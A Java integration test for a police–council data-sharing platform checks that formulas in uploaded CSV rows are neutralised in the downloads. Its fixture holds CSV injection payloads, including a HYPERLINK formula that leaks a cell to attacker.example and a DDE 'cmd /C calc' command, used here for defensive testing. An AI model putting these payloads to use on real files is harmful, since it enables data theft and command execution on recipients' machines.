package org.infoshare.security;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import com.jayway.jsonpath.JsonPath;
import org.infoshare.agreement.AgreementRegister;
import org.infoshare.directory.DirectoryLookup;
import org.infoshare.directory.Team;
import org.infoshare.shared.csv.CsvWriter;
import org.infoshare.support.DemoPartnership;
import org.infoshare.support.IntegrationTest;
import org.infoshare.support.SignedInSession;
import org.infoshare.support.TestAgreements;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * A partner's upload cannot plant a formula in the recipient's spreadsheet: the dataset's rows and its validation
 * report come out of the platform's CSV writer neutralised. The values are held as sent (the apostrophe is added
 * on the way out, and only to CSV).
 */
@IntegrationTest
class CsvInjectionIT {

    private static final String POLICE_DPO = "dpo@westshire-police.example";
    private static final String POLICE_PRACTITIONER = "practitioner@westshire-police.example";
    private static final String COUNCIL_PRACTITIONER = "practitioner@westshire-council.example";

    @Autowired MockMvc mvc;
    @Autowired DemoPartnership demo;
    @Autowired AgreementRegister register;
    @Autowired DirectoryLookup directory;

    @Test
    void formulasInUploadedRowsAreNeutralisedInTheCsvDownloads() throws Exception {
        UUID council = demo.organisation("Westshire County Council").id();
        UUID agreement = new TestAgreements(mvc, demo, register).activeCopy("CSV injection test agreement");
        UUID team = directory.teams(council).stream().filter(t -> t.name().equals("Children's Social Care – Assessment"))
                .map(Team::id).findFirst().orElseThrow();
        mvc.perform(post("/api/v1/dataset-specifications").header("Authorization", "Bearer " + demo.token(POLICE_DPO))
                        .contentType(MediaType.APPLICATION_JSON).content("""
                                {"agreementId":"%s","recipientOrganisationId":"%s","recipientTeamId":"%s","columns":[
                                 {"name":"person-ref","item":"name-and-contact-details","type":"TEXT","required":true,"pseudonymise":false},
                                 {"name":"given-name","item":"name-and-contact-details","type":"TEXT","required":false,"pseudonymise":false}]}"""
                                .formatted(agreement, council, team)))
                .andExpect(status().isCreated());

        String body = "person-ref,given-name\n"
                + "P-1,\"=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Open\"\")\"\n"
                + "-2+3+cmd|' /C calc'!A0,@SUM(A1:A9)\n"
                + "P-3,-5\n"
                + "P-4,+44 1632 960101\n";
        String police = demo.token(POLICE_PRACTITIONER);
        String uploaded = mvc.perform(post("/api/v1/datasets").header("Authorization", "Bearer " + police)
                        .param("agreementId", agreement.toString()).param("recipientId", council.toString())
                        .header("Idempotency-Key", "csv-" + UUID.randomUUID())
                        .contentType("text/csv").content(body.getBytes(StandardCharsets.UTF_8)))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.rowCount").value(4))
                .andReturn().getResponse().getContentAsString();
        UUID id = UUID.fromString(JsonPath.read(uploaded, "$.id"));

        String rows = mvc.perform(get("/api/v1/datasets/" + id + "/rows.csv").header("Authorization", "Bearer " + demo.token(COUNCIL_PRACTITIONER)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(rows.split("\r\n")).containsExactly(
                "person-ref,given-name",
                "P-1,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Open\"\")\"",
                "\"'-2+3+cmd|' /C calc'!A0\",\"'@SUM(A1:A9)\"",
                "P-3,\"'-5\"",
                "P-4,\"'+44 1632 960101\"");
        assertThat(cells(rows)).noneMatch(CsvWriter::formulaLike);

        String report = mvc.perform(get("/api/v1/datasets/" + id + "/report.csv").header("Authorization", "Bearer " + police))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(cells(report)).contains("row", "column").noneMatch(CsvWriter::formulaLike);

        // The pages' downloads are the same files.
        String pageRows = mvc.perform(get("/datasets/" + id + "/rows.csv").session(SignedInSession.of(mvc, COUNCIL_PRACTITIONER)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(pageRows).isEqualTo(rows);
        String pageReport = mvc.perform(get("/datasets/" + id + "/report.csv").session(SignedInSession.of(mvc, POLICE_PRACTITIONER)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(pageReport).isEqualTo(report);
    }

    /** Every cell of a CSV text, read by a plain RFC 4180 reading (quotes undone). */
    static List<String> cells(String csv) {
        List<String> cells = new java.util.ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        return cells;
    }
}
